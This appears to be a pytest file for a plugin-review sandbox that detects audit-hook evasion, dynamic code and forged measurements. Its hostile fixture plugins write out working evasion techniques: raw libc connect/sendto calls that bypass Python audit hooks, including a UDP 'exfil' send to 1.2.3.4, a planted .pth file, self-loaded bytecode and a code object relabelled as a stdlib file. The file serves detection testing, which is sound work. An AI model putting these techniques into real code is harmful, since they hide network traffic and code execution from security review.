    outcome = behave(plugin(tmp_path, {"probe.py": HOOK_STATE_REWRITTEN + HONEST}))

    evaded = [f for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"]
    assert "Capture evaded: the plugin changed the audit hook's own state (plugin_root)" in {f.title for f in evaded}
    assert blocks_the_gate(evaded[0]) and not outcome.passed and outcome.summary["tracer"] == "none"


def _network() -> dict:
    permissions = manifest()["permissions"]
    return {**permissions, "network": ["api.example:443"]}


BELOW_PYTHON_AFTER_A_LOOKUP = """
import ctypes, socket, struct
try:
    socket.getaddrinfo("api.example", 443)  # reported, and declared
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
def address(ip, port):  # struct sockaddr_in
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(ip) + bytes(8)
tcp = socket.socket()
libc.connect(tcp.fileno(), address("10.9.9.9", 443), 16)  # no audit event: below Python
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
libc.sendto(udp.fileno(), b"exfil", 5, 0, address("1.2.3.4", 53), 16)
"""


@needs_tracer
def test_an_ip_literal_on_a_looked_up_port_or_on_port_53_is_not_explained_by_the_lookup(tmp_path):
    outcome = behave(plugin(tmp_path, {"probe.py": BELOW_PYTHON_AFTER_A_LOOKUP + HONEST}), permissions=_network())

    evaded = {f.title for f in outcome.findings if f.rule_id == "behaviour.capture-evaded"}
    assert {
        "Capture evaded: connect 10.9.9.9:443 (failed), network traffic the audit hook did not report",
        "Capture evaded: sendto 1.2.3.4:53 (failed), network traffic the audit hook did not report",
    } <= evaded, evaded
    assert not outcome.passed


def test_reconciliation_requires_the_exact_address_the_hook_reported(tmp_path):
    from reviews.sandbox.tracer import CANARY, Effect, Trace, reconcile

    trace = Trace(started=True, harness_pid=2)
    trace.effects = [
        Effect("network", 2, "connect", "10.9.9.9:443", True),  # after a look-up of api.example:443
        Effect("network", 2, "sendto", "1.2.3.4:53", True),  # port 53, a network declared
        Effect("network", 2, "sendto", "127.0.0.1:53", True),  # glibc's fallback resolver, after a look-up
        Effect("network", 2, "connect", "10.0.0.7:443", True),  # the address the hook reported
        Effect("canary", 2, "openat", CANARY + "abc"),
    ]
    reported = [
        {"type": "event", "kind": "network", "target": "api.example:443", "operation": "lookup"},
        {"type": "event", "kind": "network", "target": "10.0.0.7:443", "operation": "connect"},
        {"type": "canary", "nonce": "abc"},
    ]

    unexplained = reconcile(trace, reported, declared=lambda kind, target: target == "api.example:443", canary="abc")

    assert unexplained == [
        "connect 10.9.9.9:443 (failed), network traffic the audit hook did not report",
        "sendto 1.2.3.4:53 (failed), network traffic the audit hook did not report",
    ]


@needs_bwrap
def test_a_code_object_the_plugin_rewrites_is_dynamic_code(tmp_path):
    source = (
        "def run():\n    print('relabelled')\n"
        "run.__code__ = run.__code__.replace(co_filename='/usr/lib/python3.11/json/decoder.py')\nrun()\n"
    )

    outcome = behave(plugin(tmp_path, {"probe.py": source + HONEST}))

    rewritten = by_rule(outcome, "behaviour.dynamic-code")
    assert rewritten.title == "Ran dynamic code (code.__new__): code object run of /usr/lib/python3.11/json/decoder.py"
    assert blocks_the_gate(rewritten) and not outcome.passed


def _environment_with_a_pth(tmp_path: Path) -> Path:
    import venv

    environment = tmp_path / "env"
    venv.EnvBuilder(symlinks=True, with_pip=False).create(environment)
    site_packages = next(environment.glob("lib/python*/site-packages"))
    (site_packages / "dependency.pth").write_text("import sys; sys.dependency_pth_ran = True\n")
    return environment


@needs_bwrap
def test_a_dependencys_pth_import_line_is_not_dynamic_code_but_one_the_plugin_writes_is(tmp_path, monkeypatch):
    environment = _environment_with_a_pth(tmp_path)
    monkeypatch.setattr("reviews.checks.behaviour.plugin_environment", lambda **kwargs: environment)
    honest = "import sys\nassert sys.dependency_pth_ran\n" + HONEST
    hostile = (
        "import site\nopen('/tmp/evil.pth', 'w').write('import os; os.getpid()\\n')\nsite.addsitedir('/tmp')\n" + HONEST
    )

    assert list(behave(plugin(tmp_path / "honest", {"probe.py": honest})).findings) == []
    outcome = behave(plugin(tmp_path / "hostile", {"probe.py": hostile}))

    dynamic = by_rule(outcome, "behaviour.dynamic-code")
    assert "import os; os.getpid()" in dynamic.title and not outcome.passed


@needs_bwrap
def test_the_performance_check_counts_an_honest_subprocess_and_raises_no_forged_finding(tmp_path, settings, db):
    HostPlatform.objects.create(name="Host", api_version="2.4", is_default=True, resource_limits={})
    settings.WARDEN_PERFORMANCE = {"startup_runs": 1, "warmup_calls": 0, "rounds": 1, "calls_per_round": 10}
    data = manifest()
    data["plugin"]["category"] = "data-connector"

    outcome = performance_harness(
        CheckContext(version_id=0, plugin_id=0, manifest=data, root=plugin(tmp_path, {"probe.py": HONEST_SUBPROCESS}))
    )

    assert "performance.forged-measurement" not in {f.rule_id for f in outcome.findings}
    shown = {m["kpi"]: m["value"] for m in outcome.metrics}
    assert shown["cpu_ms"] >= 300  # the subprocess's time is the plugin's cost


@needs_bwrap
def test_bytecode_the_plugin_writes_and_loads_itself_is_dynamic_code(tmp_path):
    bytecode = compiled(tmp_path, f"print('{MARKER}', flush=True)\n", as_name="/sandbox/plugin/probe.py")
    source = (
        "import importlib.machinery\n"
        f"open('/tmp/hidden.pyc', 'wb').write({bytecode!r})\n"
        "importlib.machinery.SourcelessFileLoader('hidden', '/tmp/hidden.pyc').load_module()\n"
    )

    outcome = behave(plugin(tmp_path, {"probe.py": source + HONEST}))

    assert MARKER in printed(outcome)
    loaded = by_rule(outcome, "behaviour.dynamic-code")
    assert loaded.title == "Ran dynamic code (marshal): marshal.loads" and not outcome.passed


GENCODE = '''def make(name):
    """Like attrs: a method compiled from source the library generates."""
    namespace = {}
    exec(compile(f"def {name}(self):\\n    return 1\\n", f"<gencode {name}>", "exec"), namespace)
    return namespace[name]
'''


def wheel_of(directory: Path, name: str, version: str, module: str) -> Path:
    """A minimal pure-Python wheel, hashes and all, for a wheelhouse the sandbox installs from."""
    import base64
    import hashlib
    import zipfile

    dist = f"{name}-{version}.dist-info"
    files = {
        f"{name}.py": module,
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: warden-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    files[f"{dist}/RECORD"] = "\n".join([*record, f"{dist}/RECORD,,"]) + "\n"
    target = directory / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(target, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return target


@needs_bwrap
def test_code_a_dependency_generates_is_a_medium_finding_not_the_plugins_dynamic_code(tmp_path, settings):
    """attrs and pydantic compile the methods they generate: reviewers see it, the gate does not
    block on it, and the same compile called by the plugin's own code stays high."""
    wheelhouse = tmp_path / "wheels"
    wheelhouse.mkdir()
    wheel_of(wheelhouse, "gencode", "1.0", GENCODE)
    settings.WARDEN_SANDBOX_WHEELHOUSE = str(wheelhouse)
    honest = plugin(
        tmp_path / "honest", {"probe.py": "import gencode\nclass Plugin:\n    value = gencode.make('value')\n"}
    )
    outcome = behave(honest, dependencies={"requirements": ["gencode==1.0"]})
    rules = {f.rule_id: f.severity for f in outcome.findings}
    assert rules == {"behaviour.dependency-generated-code": "medium"}, outcome.findings
    assert not any(blocks_the_gate(f) for f in outcome.findings)

    own = plugin(tmp_path / "own", {"probe.py": "exec(compile('x = 1', '<mine>', 'exec'))\nclass Plugin:\n    pass\n"})
    assert by_rule(behave(own), "behaviour.dynamic-code").severity == "high"
